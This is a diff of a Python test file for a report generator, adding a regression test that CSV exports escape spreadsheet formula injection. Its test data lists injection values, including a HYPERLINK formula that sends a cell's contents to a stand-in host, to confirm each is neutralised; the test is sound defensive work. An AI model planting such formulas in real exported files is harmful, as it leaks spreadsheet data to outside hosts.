@@ -191,15 +191,11 @@ window.addEventListener("load", function () {
 </script>"""
 
 
-@pytest.fixture(scope="module")
-def browser(run: SimpleNamespace, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+def _probe(page_html: str, tmp: Any) -> dict[str, Any]:
+    """Open ``page_html`` in headless Chromium with :data:`PROBE`; what the probe recorded."""
     chromium = _chromium()
-    tmp = tmp_path_factory.mktemp("probe")
     page = tmp / "probe.html"
-    page.write_text(
-        run.html.read_text(encoding="utf-8").replace("</body>", PROBE + "</body>"),
-        encoding="utf-8",
-    )
+    page.write_text(page_html.replace("</body>", PROBE + "</body>"), encoding="utf-8")
     proc = subprocess.run(
         [
             chromium,
@@ -220,6 +216,11 @@ def browser(run: SimpleNamespace, tmp_path_factory: pytest.TempPathFactory) -> d
     import html
 
     return json.loads(html.unescape(found.group(1)))
+
+
+@pytest.fixture(scope="module")
+def browser(run: SimpleNamespace, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    return _probe(run.html.read_text(encoding="utf-8"), tmp_path_factory.mktemp("probe"))
 
 
 def _ln_of(line: str) -> float:
@@ -357,3 +358,41 @@ def test_training_views_hover_and_download(run: SimpleNamespace, browser: dict[s
         norm=norms.ravel(),
     )
     _downloads_match(o, expected)
+
+
+#: Names a spreadsheet would run as formulas, and what the CSV must hold instead.
+FORMULAS = {
+    '=HYPERLINK("http://example.invalid/?"&A1,"open")': "'=HYPERLINK",
+    "+1+1": "'+1+1",
+    "-2+3": "'-2+3",
+    "@SUM(A1:A9)": "'@SUM(A1:A9)",
+    "\tx": "'\tx",
+    "LSTM": "LSTM",
+}
+
+
+@pytest.mark.browser
+def test_csv_download_neutralises_formulas(tmp_path: Any) -> None:
+    """Regression: a run named ``=...`` became a formula in the CSV of the comparison."""
+    from gradscope.reporting.document import Panel
+    from gradscope.reporting.figures import Curve
+    from gradscope.reporting.interactive import head, panel_html
+    from gradscope.reporting.panels import COMPARISON_PANEL
+
+    lags = np.arange(4)
+    curves = {n: Curve(lags, -0.5 * lags, None, -0.5, "vanishing") for n in FORMULAS}
+    fig = panel_html(Panel(COMPARISON_PANEL, dict(curves=curves), None), "cmp")
+    page = f"<!DOCTYPE html><html><head>{head()}</head><body>{fig}</body></html>"
+    o = _probe(page, tmp_path)["comparison"]
+    rows = list(csv.reader(io.StringIO(o["csv"]["text"])))
+    col = [h.split(" (")[0] for h in rows[0]].index("model")
+    got = list(dict.fromkeys(r[col] for r in rows[1:]))
+    assert len(got) == len(FORMULAS)
+    for cell, want in zip(got, FORMULAS.values()):
+        assert cell.startswith(want), (cell, want)
+    assert [cell.lstrip("'") for cell in got] == list(FORMULAS)  # the name, after the '
+    # numbers stay numbers (a negative one is not a formula) and JSON keeps the names
+    ln_norm = [h.split(" (")[0] for h in rows[0]].index("ln_norm_median")
+    assert [float(r[ln_norm]) for r in rows[1:5]] == [0.0, -0.5, -1.0, -1.5]
+    (model,) = [c for c in json.loads(o["json"]["text"])["columns"] if c["name"] == "model"]
+    assert list(dict.fromkeys(model["values"])) == list(FORMULAS)
